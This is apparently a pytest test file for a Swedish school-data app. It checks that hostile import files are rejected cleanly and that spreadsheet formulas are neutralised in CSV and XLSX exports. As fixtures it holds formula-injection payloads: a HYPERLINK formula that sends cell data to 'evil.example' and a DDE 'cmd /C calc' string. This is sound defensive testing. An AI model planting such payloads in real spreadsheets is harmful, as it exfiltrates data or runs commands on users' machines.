# Hostile import files: 500+ generated malformed and adversarial files through run_import for every
# registered kind (no traceback, database byte-identical after each rejection), and formula text
# that gets in through a valid file neutralised in every CSV and XLSX download.
"""run_import against hostile input (see tests/trust/hostile.py for the generator)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest

from pluginnan_core import exports, queries
from pluginnan_core.db import Database
from pluginnan_core.importers import kinds, run_import
from tests.trust import hostile
from tests.trust.views import Choice, run_views

N_FILES = 520
EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Klicka här")'


@pytest.fixture(scope="module")
def outcome(shared_data) -> hostile.Outcome:
    registered = kinds()
    files = hostile.generate(registered, N_FILES, seed=7)
    with hostile.quiet():
        return hostile.run(files)


def test_at_least_500_files_cover_every_kind(outcome: hostile.Outcome) -> None:
    assert outcome.files >= 500
    assert set(outcome.per_kind) == set(kinds())
    assert min(outcome.per_kind.values()) >= 500 // len(kinds()) - 1
    assert outcome.rejected > outcome.files * 0.6  # most of them really are bad


def test_no_file_gives_a_traceback(outcome: hostile.Outcome) -> None:
    assert outcome.crashes == [], "\n".join(outcome.crashes[:20])


def test_database_is_byte_identical_after_every_rejection(outcome: hostile.Outcome) -> None:
    assert outcome.changed == [], outcome.changed[:20]


def test_messages_never_echo_control_characters(outcome: hostile.Outcome) -> None:
    assert outcome.unsafe_messages == [], outcome.unsafe_messages[:20]


def test_parsers_do_not_crash_on_hostile_files(outcome: hostile.Outcome) -> None:
    """A parser that raises is caught (the user gets "filen kunde inte tolkas"), but it should have
    said which line and column are wrong. Reported, not failed: the parsers belong to the importers."""
    if outcome.parse_errors:
        pytest.xfail(f"{len(outcome.parse_errors)} parser crashes caught as parse_error, e.g. "
                     + " | ".join(outcome.parse_errors[:3]))


# --------------------------------------------------------------------------- formula text in exports

def _with_formula_names(tmp_path: Path) -> Path:
    """Templates whose free-text cells hold spreadsheet formulas; the import accepts them as text."""
    out = tmp_path / "evil"
    out.mkdir()
    for name in ("behorighet_skola.csv", "franvaro_manad.csv", "delprojekt.csv"):
        text = (hostile.TEMPLATES / name).read_text(encoding="utf-8")
        text = text.replace("Aroseniusskolan", EVIL.replace(";", ",")).replace("Närvarolyftet Ale", "@SUM(1+1)*cmd")
        text = text.replace("Mentorer och tidig kontakt", "+cmd|' /C calc'!A0")
        (out / name).write_text(text, encoding="utf-8")
    return out


def test_formula_text_is_neutralised_in_every_csv_and_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "db.duckdb"
    hostile.base_database(path)
    evil = _with_formula_names(tmp_path)
    run_import(path, "eligibility", [evil / "behorighet_skola.csv"])
    run_import(path, "absence", [evil / "franvaro_manad.csv"])
    run_import(path, "subprojects", [evil / "delprojekt.csv"])
    database = Database(path)
    assert database.scalar("SELECT namn FROM school").startswith("=HYPERLINK")
    sel = queries.Selection(kommuner=("1440",))
    run = run_views(database, sel, Choice("behorig_yrk", 10, "1440", "2024/25"),
                    measures=list(queries.ELIGIBILITY_MEASURES) + list(queries.ABSENCE_MEASURES))
    visuals = [o.visual for o in run.outputs if o.visual is not None]
    assert visuals
    seen = 0
    for v in visuals:
        note = [v.title, v.summary, "Källa: test"]
        rows = list(csv.reader(io.StringIO(exports.to_csv(v.table, note=note).decode("utf-8-sig")), delimiter=";"))
        book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(v.table, note=note)))
        cells = [c for row in book.worksheets[0].iter_rows() for c in row]
        for cell in [x for r in rows for x in r]:
            seen += "HYPERLINK" in cell
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (v.key, cell)
            assert not (cell.startswith("-") and not cell[1:2].isdigit()), (v.key, cell)
        for c in cells:
            assert c.data_type != "f", (v.key, c.value)
            assert not (isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))), (v.key, c.value)
    assert seen, "no view showed the school name: the check proved nothing"
    database.close()


def test_rejected_import_leaves_demo_database_untouched(demo_db: Path, tmp_path: Path) -> None:
    """The same guarantee on a full-size database, for one file of each kind."""
    path = tmp_path / "demo.duckdb"
    shutil.copyfile(demo_db, path)
    before = path.read_bytes()
    files = hostile.generate(kinds(), len(kinds()) * 2, seed=99)
    with hostile.quiet():
        for f in files:
            source = tmp_path / f.name
            source.write_bytes(f.raw)
            try:
                run_import(path, f.kind, [source])
            except Exception as exc:
                assert type(exc).__name__ == "ImportRejected", (f.name, f.kind, f.mutation, exc)
                assert path.read_bytes() == before, (f.name, f.kind, f.mutation)
            else:
                before = path.read_bytes()
